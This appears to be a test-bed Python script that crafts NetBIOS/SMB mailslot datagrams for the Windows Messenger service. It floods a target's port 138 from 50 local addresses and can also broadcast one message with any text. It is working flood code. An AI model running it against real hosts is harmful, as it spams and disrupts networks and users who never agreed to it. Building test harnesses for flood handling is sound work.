#!/usr/bin/env python3
"""Sends COUNT Messenger datagrams to TARGET:138 from 50 addresses PREFIX.100-149 (port 138 each)
within SECONDS, as fast as that allows, each with its own text "flood <n>". Test bed only.
  flood.py PREFIX TARGET COUNT SECONDS
  flood.py --one SOURCE DESTINATION MAILSLOT TEXT    one broadcast datagram to PC7<00> from SOURCE:138"""
import socket
import sys
import time



def encode(name: bytes) -> bytes:
    padded = name.ljust(15, b" ") + b"\x00"
    return b"\x20" + bytes(b for c in padded for b in (0x41 + (c >> 4), 0x41 + (c & 0x0F))) + b"\x00"


def datagram(source_ip: str, text: bytes, name: bytes = b"\\MAILSLOT\\MESSNGR") -> bytes:
    data = b"Flood\x00Bob\x00" + text + b"\x00"
    before = 32 + 1 + 34 + 2 + len(name) + 1
    pad = (4 - before % 4) % 4
    offset = before + pad
    smb = bytearray(b"\xffSMB\x25" + bytes(4) + b"\x18\x04\x00" + bytes(14) + b"\xff\xfe" + bytes(4))
    smb += bytes([17])
    smb += (0).to_bytes(2, "little") + len(data).to_bytes(2, "little") + (2).to_bytes(2, "little")
    smb += (0).to_bytes(2, "little") + bytes([0, 0]) + (2).to_bytes(2, "little") + bytes(4) + bytes(2)
    smb += (0).to_bytes(2, "little") + offset.to_bytes(2, "little") + len(data).to_bytes(2, "little")
    smb += offset.to_bytes(2, "little") + bytes([3, 0]) + (1).to_bytes(2, "little") + bytes(2)
    smb += (2).to_bytes(2, "little") + (len(name) + 1 + pad + len(data)).to_bytes(2, "little")
    smb += name + b"\x00" + bytes(pad) + data
    body = encode(b"FLOODER") + encode(b"PC7") + bytes(smb)
    ip = bytes(int(x) for x in source_ip.split("."))
    return b"\x10\x02\x80\x01" + ip + (138).to_bytes(2, "big") + len(body).to_bytes(2, "big") + b"\x00\x00" + body


def flood(prefix: str, target: str, count: int, seconds: float) -> None:
    sockets = []
    for i in range(100, 150):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((f"{prefix}.{i}", 0))
        sockets.append((s, f"{prefix}.{i}"))
    end = time.monotonic() + seconds
    sent = 0
    for n in range(count):
        if time.monotonic() > end:
            break
        s, ip = sockets[n % len(sockets)]
        s.sendto(datagram(ip, b"flood %d" % n), (target, 138))
        sent += 1
    print(f"flood: {sent} datagrams sent")


def one(source: str, destination: str, mailslot: str, text: str) -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.bind((source, 138))
    s.sendto(datagram(source, text.encode(), mailslot.encode()), (destination, 138))


if sys.argv[1] == "--one":
    one(*sys.argv[2:6])
else:
    flood(sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
